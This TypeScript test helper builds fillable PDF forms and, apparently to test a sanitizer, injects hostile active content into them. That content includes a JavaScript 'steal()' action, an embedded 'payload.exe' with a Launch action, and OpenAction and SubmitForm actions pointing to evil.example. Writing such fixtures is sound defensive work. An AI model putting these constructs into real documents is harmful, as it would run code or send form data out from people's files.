/** A fillable form of our own layout, with the field names of form 25, and what people's files may hold besides. */
import { PDFDocument, PDFName, PDFString } from "@cantoo/pdf-lib";
import { checkBoxNames, textFieldNames } from "../../core/certificate-forms/field-names.ts";

export interface LicensedForm {
  /** "PATH": as editions with an XFA part name them. */
  style?: "PLAIN" | "PATH";
  without?: (name: string) => boolean;
  rename?: (name: string) => string;
  /** Values that someone left in the fields. */
  values?: Readonly<Record<string, string>>;
  edition?: string;
  /** The fields of another form than 25. */
  fields?: { texts: readonly string[]; checks: readonly string[] };
  password?: string;
  change?: (pdf: PDFDocument) => void | Promise<void>;
}

const multiline = /RemarkText|OtherPolicyDescription/;

export async function makeLicensedForm({
  style = "PLAIN",
  without = () => false,
  rename = (name) => name,
  values = {},
  edition = "",
  fields = { texts: textFieldNames, checks: checkBoxNames },
  password,
  change,
}: LicensedForm = {}): Promise<Uint8Array> {
  const drawn = await PDFDocument.create({ updateMetadata: false });
  const form = drawn.getForm();
  const names = [...fields.texts, ...fields.checks].filter((name) => !without(name));
  const perPage = 45;
  for (const [at, name] of names.entries()) {
    if (at % perPage === 0) drawn.addPage([612, 792]);
    const page = drawn.getPages().at(-1);
    if (!page) throw new Error("There is no page.");
    const whole = style === "PATH" ? `F[0].P1[0].${rename(name)}[0]` : rename(name);
    const [x, y] = [40, 740 - (at % perPage) * 16];
    if (fields.texts.includes(name)) {
      const field = form.createTextField(whole);
      const isLarge = multiline.test(name);
      if (isLarge) field.enableMultiline();
      field.addToPage(
        page,
        isLarge ? { x: 320, y, width: 280, height: 90 } : { x, y, width: 200, height: 14 },
      );
      field.setFontSize(8);
      const value = name === "Form_EditionIdentifier_A" ? edition : values[name];
      if (value) field.setText(value);
    } else {
      const field = form.createCheckBox(whole);
      field.addToPage(page, { x, y, width: 10, height: 10 });
      if (values[name]) field.check();
    }
  }
  // The library drops an XFA part that was added before the form was last used.
  const pdf = await PDFDocument.load(await drawn.save(), { updateMetadata: false, preserveXFA: true });
  await change?.(pdf);
  if (password !== undefined) pdf.encrypt({ userPassword: password, ownerPassword: "owner" });
  return pdf.save({ updateFieldAppearances: false });
}

const action = (type: string, rest: Record<string, string>) => ({
  Type: "Action",
  S: type,
  ...Object.fromEntries(Object.entries(rest).map(([key, value]) => [key, PDFString.of(value)])),
});

/** Texts by which the parts of `addActiveContent` are found again. */
export const activeTexts = [
  "app.alert",
  "steal()",
  "evil.example",
  "other-file.pdf",
  "payload.exe",
  "MZ payload",
  "xfa-template",
  "A sticky note",
];

/** One of everything that a form must not hold. */
export async function addActiveContent(pdf: PDFDocument): Promise<void> {
  const { context, catalog } = pdf;
  const page = pdf.getPage(0);
  const set = (dict: { set(key: PDFName, value: never): void }, key: string, value: object) =>
    dict.set(PDFName.of(key), context.obj(value as never) as never);
  pdf.addJavaScript("start", "app.alert('hello')");
  await pdf.attach(new TextEncoder().encode("MZ payload"), "payload.exe");
  set(catalog, "OpenAction", action("URI", { URI: "https://evil.example/open" }));
  set(catalog, "AA", { WC: action("JavaScript", { JS: "steal()" }) });
  set(page.node, "AA", { O: action("Launch", { F: "payload.exe" }) });
  const form = pdf.getForm();
  const field = form.getFields()[0];
  if (!field) throw new Error("There is no field.");
  set(field.acroField.dict, "AA", {
    K: context.register(context.obj(action("JavaScript", { JS: "steal()" }) as never)),
  });
  for (const widget of field.acroField.getWidgets())
    set(widget.dict, "A", { ...action("SubmitForm", { F: "https://evil.example/submit" }), Flags: 4 });
  set(form.acroForm.dict, "CO", [field.ref]);
  const xfa = context.register(context.stream("<xdp>xfa-template</xdp>"));
  set(form.acroForm.dict, "XFA", [PDFString.of("template"), xfa]);
  const annotations = page.node.Annots();
  for (const note of [
    { Subtype: "Link", A: action("GoToR", { F: "other-file.pdf" }) },
    { Subtype: "Text", Contents: PDFString.of("A sticky note") },
  ]) {
    const dict = { Type: "Annot", Rect: [0, 0, 10, 10], ...note };
    annotations?.push(context.register(context.obj(dict as never)));
  }
  const outside = context.stream("", {
    Type: "XObject",
    Subtype: "Image",
    F: PDFString.of("other-file.pdf"),
  });
  page.node.setXObject(PDFName.of("Outside"), context.register(outside));
}
